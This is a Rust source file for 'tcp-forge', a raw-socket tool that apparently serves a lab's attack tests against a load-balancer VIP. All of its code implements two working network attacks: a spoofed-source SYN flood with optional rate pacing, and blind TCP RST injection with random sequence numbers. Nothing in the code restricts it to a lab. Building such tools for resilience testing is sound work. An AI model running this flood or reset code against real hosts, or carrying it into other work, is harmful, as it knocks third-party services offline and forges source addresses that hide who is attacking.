//! `tcp-forge`: TCP segments an attacker without the connection's state would send, through a
//! raw IPv4 socket (the kernel fills in the IP checksum and length; this computes TCP's). The
//! attack tests run it in the lab's client namespace against the VIP.
//!
//! ```text
//! tcp-forge syn --target ADDR:PORT (--count N | --seconds S) --sources A.B.C.D/LEN [--pps R] [--seed S]
//! tcp-forge rst --target ADDR:PORT --client A.B.C.D --ports P[,P...] [--seed S]
//! ```
//! `syn`: N SYNs (or as many as S seconds take) from random addresses of `--sources` and random
//! ports, as fast as the socket takes them or R a second (a spoofed SYN flood). `rst`: one RST with a random sequence number from
//! `--client` at each port (a blind reset). Prints `sent N in T s` on stderr when done.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    time::Instant,
};

/// xorshift64*: a seedable, fast source of addresses, ports and sequence numbers.
struct Rng(u64);

impl Rng {
    fn next_u32(&mut self) -> u32 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 32) as u32
    }
}

enum Mode {
    Syn {
        count: u64,
        seconds: Option<f64>,
        pps: Option<f64>,
        net: u32,
        len: u8,
    },
    Rst {
        client: Ipv4Addr,
        ports: Vec<u16>,
    },
}

struct Args {
    target: SocketAddrV4,
    mode: Mode,
    seed: u64,
}

fn parse_args() -> Result<Args, String> {
    let mut it = std::env::args().skip(1);
    let mode = it.next().ok_or("need a mode: syn or rst")?;
    let (mut target, mut count, mut sources, mut client, mut ports, mut seed) =
        (None, 100_000u64, None, None, Vec::new(), 1u64);
    let (mut seconds, mut pps) = (None, None);
    while let Some(flag) = it.next() {
        let value = it.next().ok_or_else(|| format!("{flag} needs a value"))?;
        let bad = |e: &dyn std::fmt::Display| format!("{flag} {value}: {e}");
        match flag.as_str() {
            "--target" => target = Some(value.parse().map_err(|e| bad(&e))?),
            "--count" => count = value.parse().map_err(|e| bad(&e))?,
            "--seconds" => {
                seconds = Some(value.parse().map_err(|e| bad(&e))?);
                count = u64::MAX;
            }
            "--sources" => {
                let (addr, len) = value
                    .split_once('/')
                    .ok_or_else(|| bad(&"not A.B.C.D/LEN"))?;
                let addr: Ipv4Addr = addr.parse().map_err(|e| bad(&e))?;
                let len: u8 = len.parse().map_err(|e| bad(&e))?;
                if len > 32 {
                    return Err(bad(&"prefix length over 32"));
                }
                sources = Some((u32::from(addr), len));
            }
            "--client" => client = Some(value.parse().map_err(|e| bad(&e))?),
            "--ports" => {
                ports = value
                    .split(',')
                    .map(|p| p.parse().map_err(|e| bad(&e)))
                    .collect::<Result<_, _>>()?
            }
            "--seed" => seed = value.parse().map_err(|e| bad(&e))?,
            "--pps" => pps = Some(value.parse().map_err(|e| bad(&e))?),
            other => return Err(format!("unknown flag {other}")),
        }
    }
    let target = target.ok_or("need --target")?;
    let mode = match mode.as_str() {
        "syn" => {
            let (net, len) = sources.ok_or("syn needs --sources")?;
            Mode::Syn {
                count,
                seconds,
                pps,
                net,
                len,
            }
        }
        "rst" => Mode::Rst {
            client: client.ok_or("rst needs --client")?,
            ports,
        },
        other => return Err(format!("unknown mode {other}")),
    };
    Ok(Args { target, mode, seed })
}

/// An IPv4 header (checksum, length and id left to the kernel) and a 20-byte TCP header.
fn segment(src: Ipv4Addr, sport: u16, dst: SocketAddrV4, seq: u32, flags: u8) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[6] = 0x40;
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.ip().octets());
    let tcp = &mut p[20..];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dst.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = flags;
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    // RFC 9293 section 3.1: the sum covers a pseudo-header of addresses, protocol and length.
    let mut sum: u32 = 6 + 20;
    for pair in src.octets().chunks(2).chain(dst.ip().octets().chunks(2)) {
        sum += u32::from(u16::from_be_bytes([pair[0], pair[1]]));
    }
    for pair in tcp.chunks(2) {
        sum += u32::from(u16::from_be_bytes([pair[0], pair[1]]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    tcp[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    p
}

fn main() {
    let args = match parse_args() {
        Ok(args) => args,
        Err(e) => {
            eprintln!("tcp-forge: {e}");
            std::process::exit(2);
        }
    };
    // SAFETY: plain syscall; IPPROTO_RAW implies IP_HDRINCL.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        eprintln!("tcp-forge: raw socket: {}", std::io::Error::last_os_error());
        std::process::exit(1);
    }
    let to = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(*args.target.ip()).to_be(),
        },
        sin_zero: [0; 8],
    };
    let send = |packet: &[u8; 40]| -> bool {
        // SAFETY: the buffer and address outlive the call.
        let n = unsafe {
            libc::sendto(
                fd,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&raw const to).cast(),
                size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        n == packet.len() as isize
    };
    let mut rng = Rng(args.seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let started = Instant::now();
    let (mut sent, mut failed) = (0u64, 0u64);
    match args.mode {
        Mode::Syn {
            count,
            seconds,
            pps,
            net,
            len,
        } => {
            let until = seconds.map(|s| started + std::time::Duration::from_secs_f64(s));
            let host_bits = if len == 0 {
                u32::MAX
            } else {
                (1u64 << (32 - len)) as u32 - 1
            };
            let net = net & !host_bits;
            eprintln!("flooding");
            for n in 0..count {
                if n % 64 == 0 {
                    let now = Instant::now();
                    if until.is_some_and(|t| now >= t) {
                        break;
                    }
                    // Paced: sleep until the time the next 64 are due.
                    if let Some(pps) = pps {
                        let due = started + std::time::Duration::from_secs_f64(n as f64 / pps);
                        if due > now {
                            std::thread::sleep(due - now);
                        }
                    }
                }
                let src = Ipv4Addr::from(net | (rng.next_u32() & host_bits));
                let sport = 1024 + (rng.next_u32() % 64_000) as u16;
                if send(&segment(src, sport, args.target, rng.next_u32(), 0x02)) {
                    sent += 1;
                } else {
                    failed += 1;
                }
            }
        }
        Mode::Rst { client, ports } => {
            for port in ports {
                if send(&segment(client, port, args.target, rng.next_u32(), 0x04)) {
                    sent += 1;
                } else {
                    failed += 1;
                }
            }
        }
    }
    eprintln!(
        "sent {sent} in {:.2} s ({failed} refused by the socket)",
        started.elapsed().as_secs_f64()
    );
    // SAFETY: our own descriptor.
    unsafe { libc::close(fd) };
    if failed > 0 {
        std::process::exit(1);
    }
}
